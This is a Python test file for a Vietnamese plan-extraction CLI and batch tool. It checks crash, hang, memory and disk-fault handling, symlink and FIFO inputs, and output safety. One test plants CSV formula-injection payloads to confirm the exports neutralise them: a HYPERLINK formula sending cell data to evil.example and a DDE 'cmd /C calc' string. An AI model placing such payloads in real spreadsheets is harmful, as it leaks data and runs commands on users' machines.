"""Batch and CLI under hostile inputs and faults: each test is named after what broke before.

Inputs are made here; faults (a worker killed, a hang, a runaway allocation) are made by patching
the pipeline in this process: batch workers are forked from it, so they inherit the patch.
"""
import csv
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import CORPUS, ROOT

SEED = CORPUS / "seeds" / "000_db1299a2e6faf1e1.txt"
SEED2 = CORPUS / "seeds" / "001_55bc0ea6d2f8eabe.txt"


def cli(*args, cwd=ROOT, timeout=600):
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))
    return subprocess.run([sys.executable, "-m", "planparse.cli", *args], capture_output=True, text=True, cwd=cwd,
                          timeout=timeout, env=env)


def one_line_error(stderr: str, code: str, name: str) -> None:
    assert "Traceback" not in stderr, stderr
    lines = [x for x in stderr.splitlines() if x.startswith("error:")]
    assert lines and all(code in x and name in x for x in lines), stderr


def poison_pipeline(monkeypatch, faults: dict):
    """read_for_extraction as it is, except for the files named in `faults`: name -> what happens."""
    from planparse import pipeline

    real = pipeline.read_for_extraction

    def patched(path, repair="auto"):
        fault = faults.get(Path(path).name)
        if fault == "kill":
            os.kill(os.getpid(), signal.SIGKILL)
        elif fault == "hang":
            time.sleep(600)
        elif fault == "slow but moving":  # a long scan: every page takes a while, and says so
            from planparse import limits

            for _ in range(12):  # 12 s in all, over the 8 s budget: only progress keeps it alive
                time.sleep(1.0)
                limits.progress()
        elif fault == "allocate":
            blob = bytearray(8 * 1024 ** 3)  # far over the budget: the capped address space refuses it
            blob[-1] = 1
        elif fault == "crash":
            os._exit(70)  # a native library that gives up and exits
        return real(path, repair)

    monkeypatch.setattr(pipeline, "read_for_extraction", patched)


def folder_of(tmp_path, names: dict) -> Path:
    src = tmp_path / "in"
    src.mkdir()
    for name, source in names.items():
        (src / name).write_bytes(Path(source).read_bytes())
    return src


@pytest.mark.parametrize("jobs", [1, 2])
def test_a_worker_that_dies_costs_only_its_file(tmp_path, monkeypatch, jobs):
    from planparse.batch import run_batch

    src = folder_of(tmp_path, {"a.txt": SEED, "poison.txt": SEED, "crash.txt": SEED, "b.txt": SEED2})
    poison_pipeline(monkeypatch, {"poison.txt": "kill", "crash.txt": "crash"})
    records = run_batch([str(src)], str(tmp_path / "out"), jobs=jobs, progress=False)
    by_name = {Path(r.file).name: r for r in records}
    assert by_name["poison.txt"].status == "failed" and "E122" in by_name["poison.txt"].reason
    assert "signal 9" in by_name["poison.txt"].reason
    assert by_name["crash.txt"].status == "failed" and "E122" in by_name["crash.txt"].reason
    assert {by_name["a.txt"].status, by_name["b.txt"].status} <= {"ok", "warnings"}
    assert len((tmp_path / "out" / "plans.jsonl").read_text(encoding="utf-8").splitlines()) == 2
    db = sqlite3.connect(tmp_path / "out" / "plans.sqlite")
    assert {Path(f).name for (f,) in db.execute("SELECT file FROM failures")} == {"poison.txt", "crash.txt"}


def test_a_file_that_hangs_is_stopped_at_its_time_budget(tmp_path, monkeypatch):
    from planparse.batch import run_batch
    from planparse.limits import parse_overrides

    src = folder_of(tmp_path, {"a.txt": SEED, "slow.txt": SEED})
    poison_pipeline(monkeypatch, {"slow.txt": "hang"})
    records = run_batch([str(src)], str(tmp_path / "out"), jobs=2, progress=False,
                        budget=parse_overrides(["seconds=8"]))
    by_name = {Path(r.file).name: r for r in records}
    assert "E120" in by_name["slow.txt"].reason and by_name["a.txt"].status in ("ok", "warnings")


def test_a_slow_file_that_makes_progress_is_not_stopped(tmp_path, monkeypatch):
    from planparse.batch import run_batch
    from planparse.limits import parse_overrides

    src = folder_of(tmp_path, {"scan.txt": SEED})
    poison_pipeline(monkeypatch, {"scan.txt": "slow but moving"})
    (rec,) = run_batch([str(src)], str(tmp_path / "out"), progress=False, budget=parse_overrides(["seconds=8"]))
    assert rec.status in ("ok", "warnings"), rec.reason


def test_a_runaway_allocation_is_refused_by_the_memory_budget(tmp_path, monkeypatch):
    from planparse.batch import run_batch
    from planparse.limits import parse_overrides

    src = folder_of(tmp_path, {"a.txt": SEED, "big.txt": SEED})
    poison_pipeline(monkeypatch, {"big.txt": "allocate"})
    records = run_batch([str(src)], str(tmp_path / "out"), jobs=1, progress=False,
                        budget=parse_overrides(["memory_mb=1500"]))
    by_name = {Path(r.file).name: r for r in records}
    assert "E121" in by_name["big.txt"].reason and by_name["a.txt"].status in ("ok", "warnings")


def test_real_plans_survive_a_killed_worker_and_a_poison_file(tmp_path, monkeypatch):
    """Every real plan of corpus/real still gets its JSON, CSV and SQLite rows."""
    from planparse.batch import run_batch

    src = tmp_path / "in"
    shutil.copytree(CORPUS / "real", src)
    shutil.copy(SEED, src / "poison.txt")
    (src / "rác.docx").write_bytes(b"PK\x03\x04" + os.urandom(3000))
    poison_pipeline(monkeypatch, {"poison.txt": "kill"})
    records = run_batch([str(src)], str(tmp_path / "out"), jobs=2, progress=False)
    plans = [r for r in records if r.status in ("ok", "warnings")]
    failed = {Path(r.file).name for r in records if r.status == "failed"}
    assert failed == {"poison.txt", "rác.docx"}, [(r.file, r.reason) for r in records if r.status == "failed"]
    assert len(plans) >= 30
    jsonl = (tmp_path / "out" / "plans.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(jsonl) == len(plans)
    with open(tmp_path / "out" / "plans.csv", encoding="utf-8", newline="") as f:
        assert len(list(csv.DictReader(f))) == len(plans)
    db = sqlite3.connect(tmp_path / "out" / "plans.sqlite")
    assert db.execute("SELECT count(*) FROM plans").fetchone()[0] == len(plans)
    assert db.execute("SELECT count(DISTINCT plan_id) FROM tasks").fetchone()[0] == len(plans)
    for r in plans:
        assert (tmp_path / "out" / r.output).exists()


def test_a_file_name_that_is_not_utf8_is_recorded_and_resumed(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    bad = os.path.join(os.fsencode(src), b"k\xe9-ho\xe1ch.txt")  # Windows-1252 bytes from a zip archive
    with open(bad, "wb") as f:
        f.write(SEED.read_bytes())
    out = tmp_path / "out"
    for _ in range(2):
        r = cli("batch", str(src), "--out", str(out))
        assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    assert "1 unchanged" in r.stderr
    with open(out / "plans.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 1 and rows[0]["file"].endswith("k\\xe9-ho\\xe1ch.txt")
    r = cli("extract", os.fsdecode(bad), "-o", str(tmp_path / "x"))
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr


def test_names_that_clean_up_alike_get_their_own_json(tmp_path):
    from planparse.batch import run_batch

    src = tmp_path / "in"
    for sub in ("a", "b"):
        (src / sub).mkdir(parents=True)
        (src / sub / "kh.txt").write_bytes(SEED.read_bytes())
    (src / "x y.txt").write_bytes(SEED.read_bytes())
    (src / "x_y.txt").write_bytes(SEED.read_bytes())
    records = run_batch([str(src)], str(tmp_path / "out"), progress=False)
    assert len({r.output for r in records}) == 4
    for r in records:
        data = json.loads((tmp_path / "out" / r.output).read_text(encoding="utf-8"))
        assert data["source_file"] == str(Path(r.file).resolve())


def test_a_deleted_input_leaves_the_outputs_and_an_absolute_rerun_does_not_double(tmp_path, monkeypatch):
    src = folder_of(tmp_path, {"a.txt": SEED, "b.txt": SEED2})
    monkeypatch.chdir(tmp_path)
    r = cli("batch", "in", "--out", str(tmp_path / "out"), cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    r = cli("batch", str(src.resolve()), "--out", str(tmp_path / "out"), cwd=tmp_path)
    assert "2 unchanged" in r.stderr
    assert len((tmp_path / "out" / "plans.jsonl").read_text(encoding="utf-8").splitlines()) == 2
    (src / "b.txt").unlink()
    r = cli("batch", str(src), "--out", str(tmp_path / "out"))
    assert len((tmp_path / "out" / "plans.jsonl").read_text(encoding="utf-8").splitlines()) == 1
    db = sqlite3.connect(tmp_path / "out" / "plans.sqlite")
    assert [Path(f).name for (f,) in db.execute("SELECT file FROM plans")] == ["a.txt"]
    assert len(list((tmp_path / "out" / "json").glob("*.json"))) == 1


@pytest.mark.parametrize("state", ['{"pipeline": 1, "files": []}', '[1, 2]', '{"files": {"x": {"file": 3}}}',
                                   "{" * 100_000, "\x00\xff"])
def test_a_corrupt_batch_state_is_set_aside_with_a_warning(tmp_path, state):
    src = folder_of(tmp_path, {"a.txt": SEED})
    out = tmp_path / "out"
    out.mkdir()
    (out / "batch-state.json").write_text(state, encoding="latin-1")
    r = cli("batch", str(src), "--out", str(out))
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    assert "set aside" in r.stderr
    assert list(out.glob("batch-state.json.corrupt-*"))
    assert len((out / "plans.jsonl").read_text(encoding="utf-8").splitlines()) == 1


def read_like_a_spreadsheet(path: Path) -> list[list[str]]:
    """Cells as a spreadsheet takes them: text starting with = + - @ (or a tab/CR before one) that is
    not a plain number would be run as a formula; such cells are returned as 'FORMULA:...'."""
    cells = []
    with open(path, encoding="utf-8-sig", newline="") as f:
        for row in csv.reader(f):
            out = []
            for cell in row:
                start = cell.lstrip("\t\r ")
                try:
                    float(cell)
                    out.append(cell)
                    continue
                except ValueError:
                    pass
                out.append("FORMULA:" + cell if start[:1] and start[:1] in "=+-@" and cell[:1] != "'" else cell)
            cells.append(out)
    return cells


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
    from planparse.batch import run_batch

    text = SEED.read_text(encoding="utf-8")
    lines = text.splitlines()
    # a plan whose duty, unit and figure begin the way formulas do
    hostile = "\n".join(lines[:40]) + ('\n- =HYPERLINK("http://evil.example/?"&A1,"Bấm") giao Sở Nội vụ chủ trì, '
                                      'hoàn thành trong năm 2025.\n+cmd|" /C calc"!A0\n@SUM(1+1)\n' + "\n".join(lines[40:]))
    src = tmp_path / "in"
    src.mkdir()
    (src / "kh.txt").write_text(hostile, encoding="utf-8")
    run_batch([str(src)], str(tmp_path / "out"), progress=False)
    plan = json.loads((tmp_path / "out" / "plans.jsonl").read_text(encoding="utf-8").splitlines()[0])
    plan["tasks"][0]["text"] = "=1+1"
    plan["tasks"][0]["lead"] = ["@SUM(A1:A9)"]
    plan["meta"]["title"] = "-2+3"
    plan["meta"]["issuer"] = "+ Sở"
    out = tmp_path / "out"
    (out / next(iter((out / "json").glob("*.json"))).relative_to(out)).write_text(json.dumps(plan), encoding="utf-8")
    from planparse.batch import STATE, write_outputs

    write_outputs(out, json.loads((out / STATE).read_text(encoding="utf-8")))
    for name in ("plans.csv", "tasks.csv", "kpis.csv", "units.csv"):
        cells = read_like_a_spreadsheet(out / name)
        assert not [c for row in cells for c in row if c.startswith("FORMULA:")], name
    tasks = read_like_a_spreadsheet(out / "tasks.csv")
    assert any(row[3] == "'=1+1" for row in tasks) and any(row[4] == "'@SUM(A1:A9)" for row in tasks)
    # the JSON and SQLite keep the text as it is: only cells a spreadsheet opens are guarded
    db = sqlite3.connect(out / "plans.sqlite")
    assert ("=1+1",) in db.execute("SELECT text FROM tasks").fetchall()


def test_a_glob_does_not_follow_links_out_of_its_folder(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_bytes(SEED.read_bytes())
    src = folder_of(tmp_path, {"a.txt": SEED})
    os.symlink(outside / "secret.txt", src / "link.txt")
    os.symlink(outside, src / "linked")
    (src / "sub").mkdir()
    (src / "sub" / "b.txt").write_bytes(SEED2.read_bytes())
    for pattern in ("*.txt", "**/*.txt", "*/*.txt"):
        r = cli("batch", str(src / pattern), "--out", str(tmp_path / f"out{len(pattern)}"))
        assert "secret" not in (tmp_path / f"out{len(pattern)}" / "plans.jsonl").read_text(encoding="utf-8")
        assert "link.txt: collect: E109" in r.stderr or pattern == "*/*.txt", r.stderr
    r = cli("batch", str(src), "--out", str(tmp_path / "outdir"))
    assert "linked: collect: E109" in r.stderr and "link.txt: collect: E109" in r.stderr


def test_a_fifo_named_like_a_plan_does_not_block(tmp_path):
    src = folder_of(tmp_path, {"a.txt": SEED})
    os.mkfifo(src / "pipe.txt")
    r = cli("batch", str(src), "--out", str(tmp_path / "out"), timeout=120)
    assert "pipe.txt: collect: E116" in r.stderr, r.stderr
    r = cli("extract", str(src / "pipe.txt"), timeout=120)
    assert r.returncode == 1
    one_line_error(r.stderr, "E116", "pipe.txt")
    r = cli("review", str(src / "pipe.txt"), "-o", str(tmp_path / "r.html"), timeout=120)
    one_line_error(r.stderr, "E116", "pipe.txt")


@pytest.mark.parametrize("jobs", ["0", "-1", "x"])
def test_minus_j_that_is_not_a_worker_count_is_refused(tmp_path, jobs):
    r = cli("batch", str(SEED), "--out", str(tmp_path / "out"), "-j", jobs)
    assert r.returncode == 2 and "Traceback" not in r.stderr and "-j" in r.stderr
    assert not (tmp_path / "out").exists()


def test_minus_j_1000_starts_no_more_workers_than_the_limit(tmp_path):
    src = folder_of(tmp_path, {"a.txt": SEED, "b.txt": SEED2})
    r = cli("batch", str(src), "--out", str(tmp_path / "out"), "-j", "1000", "--limit", "jobs=2")
    assert r.returncode == 0 and "limit of 2 workers" in r.stderr, r.stderr


def test_an_unknown_limit_is_one_line(tmp_path):
    r = cli("extract", str(SEED), "--limit", "pagez=3")
    assert r.returncode == 2 and "unknown limit" in r.stderr and "Traceback" not in r.stderr


def test_extract_goes_on_after_an_output_it_cannot_write(tmp_path):
    out = tmp_path / "out"
    (out / (SEED.name + ".json")).mkdir(parents=True)  # a folder where the first JSON should go
    r = cli("extract", str(SEED), str(SEED2), "-o", str(out))
    assert r.returncode == 1
    one_line_error(r.stderr, "E130", SEED.name + ".json")
    assert ".tmp" not in r.stderr
    assert (out / (SEED2.name + ".json")).is_file()
    assert not list(out.glob("*.tmp"))


def test_two_inputs_with_one_name_do_not_share_an_extract_json(tmp_path):
    for sub, seed in (("a", SEED), ("b", SEED2)):
        (tmp_path / sub).mkdir()
        shutil.copy(seed, tmp_path / sub / "kh.txt")
    r = cli("extract", str(tmp_path / "a" / "kh.txt"), str(tmp_path / "b" / "kh.txt"), "-o", str(tmp_path / "out"))
    assert r.returncode == 0, r.stderr
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["kh.txt.2.json", "kh.txt.json"]


def test_a_254_byte_file_name_gets_a_short_enough_output_name(tmp_path):
    name = "k" * 250 + ".txt"
    shutil.copy(SEED, tmp_path / name)
    r = cli("extract", str(tmp_path / name), "-o", str(tmp_path / "out"))
    assert r.returncode == 0, r.stderr
    (written,) = (tmp_path / "out").iterdir()
    assert written.suffix == ".json" and len(written.name.encode()) <= 255
    r = cli("batch", str(tmp_path / name), "--out", str(tmp_path / "bout"))
    assert r.returncode == 0, r.stderr


def test_a_full_disk_names_the_output_and_leaves_no_tmp(tmp_path, monkeypatch):
    from planparse import writing
    from planparse.errors import CannotWrite

    def full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(writing.os, "fsync", full)
    with pytest.raises(CannotWrite) as e:
        writing.atomic_write(tmp_path / "json" / "kh.json", "{}")
    assert "kh.json: E130" in str(e.value) and "No space left" in str(e.value) and ".tmp" not in str(e.value)
    assert not list(tmp_path.rglob("*.tmp"))


def test_a_full_disk_while_combining_names_out_and_keeps_the_last_outputs(tmp_path, monkeypatch):
    from planparse import batch
    from planparse.errors import CannotWrite

    out = tmp_path / "out"
    batch.run_batch([str(SEED)], str(out), progress=False)
    before = (out / "plans.jsonl").read_text(encoding="utf-8")
    real_open = open

    def full_open(path, *a, **kw):
        if str(path).endswith("tasks.csv.tmp"):
            raise OSError(28, "No space left on device")
        return real_open(path, *a, **kw)

    monkeypatch.setattr(batch, "open", full_open, raising=False)
    state = json.loads((out / batch.STATE).read_text(encoding="utf-8"))
    with pytest.raises(CannotWrite) as e:
        batch.write_outputs(out, state)
    assert str(e.value).startswith(f"{out}: E130") and "No space left" in str(e.value)
    assert not list(out.rglob("*.tmp"))
    assert (out / "plans.jsonl").read_text(encoding="utf-8") == before


@pytest.mark.parametrize("command", ["review", "compare"])
def test_deeply_nested_json_is_one_line(tmp_path, command):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")
    args = ["review", str(deep), "-o", str(tmp_path / "r.html")] if command == "review" else \
        ["compare", str(deep), str(deep)]
    r = cli(*args)
    assert r.returncode == 1
    one_line_error(r.stderr, "E108", "deep.json")


def test_closed_stdout_and_stderr_are_not_tracebacks(tmp_path):
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))
    cmd = f"'{sys.executable}' -m planparse.cli extract '{SEED}' >&-"
    r = subprocess.run(["bash", "-c", cmd], capture_output=True, text=True, env=env, cwd=ROOT, timeout=300)
    assert r.returncode == 1 and "Traceback" not in r.stderr
    one_line_error(r.stderr, "E130", "stdout")
    out = tmp_path / "out"
    cmd = f"'{sys.executable}' -m planparse.cli batch '{SEED}' --out '{out}' 2>&-"
    r = subprocess.run(["bash", "-c", cmd], capture_output=True, text=True, env=env, cwd=ROOT, timeout=300)
    assert r.returncode == 0
    assert len((out / "plans.jsonl").read_text(encoding="utf-8").splitlines()) == 1


def test_link_of_a_folder_with_a_bad_file_lists_it(tmp_path):
    src = folder_of(tmp_path, {"a.txt": SEED})
    (src / "bad.docx").write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    (src / "deep.json").write_text("[" * 100_000, encoding="utf-8")
    r = cli("link", str(src))
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    assert "bad.docx" in r.stdout + r.stderr and "deep.json" in r.stdout + r.stderr


def test_review_does_not_show_a_file_the_json_names(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("mật khẩu: hunter2", encoding="utf-8")
    r = cli("extract", str(SEED), "-o", str(tmp_path / "x"))
    data = json.loads((tmp_path / "x" / (SEED.name + ".json")).read_text(encoding="utf-8"))
    data["source_file"] = str(secret)
    data["document"] = str(secret)
    (tmp_path / "x" / "evil.json").write_text(json.dumps(data), encoding="utf-8")
    r = cli("review", str(tmp_path / "x" / "evil.json"), "-o", str(tmp_path / "r.html"))
    assert r.returncode == 0, r.stderr
    assert "hunter2" not in (tmp_path / "r.html").read_text(encoding="utf-8")


def test_extract_on_the_command_line_has_the_batch_time_budget(tmp_path):
    """A file that stops making progress is stopped in `extract` too (here by patching the reader)."""
    script = tmp_path / "hang.py"
    script.write_text(
        "import sys, time\n"
        "from planparse import cli, pipeline\n"
        "real = pipeline.read_for_extraction\n"
        "def slow(path, repair='auto'):\n"
        "    if 'hang' in str(path):\n"
        "        time.sleep(120)\n"
        "    return real(path, repair)\n"
        "pipeline.read_for_extraction = slow\n"
        "sys.exit(cli.main(sys.argv[1:]))\n", encoding="utf-8")
    shutil.copy(SEED, tmp_path / "hang.txt")
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))
    started = time.monotonic()
    r = subprocess.run([sys.executable, str(script), "extract", str(tmp_path / "hang.txt"), str(SEED),
                        "--limit", "seconds=6", "-o", str(tmp_path / "out")],
                       capture_output=True, text=True, env=env, timeout=100)
    assert time.monotonic() - started < 60
    assert r.returncode == 1
    one_line_error(r.stderr, "E120", "hang.txt")
    assert (tmp_path / "out" / (SEED.name + ".json")).exists()


@pytest.mark.parametrize("command", [["schema"], ["link", "corpus/seeds"], ["repair", str(SEED)],
                                     ["blocks", str(SEED)], ["eval", str(SEED)]])
def test_every_command_with_stdout_closed_says_so_in_one_line(command):
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))
    cmd = " ".join(f"'{x}'" for x in [sys.executable, "-m", "planparse.cli", *command]) + " >&-"
    r = subprocess.run(["bash", "-c", cmd], capture_output=True, text=True, env=env, cwd=ROOT, timeout=300)
    assert r.returncode == 1
    one_line_error(r.stderr, "E130", "stdout")
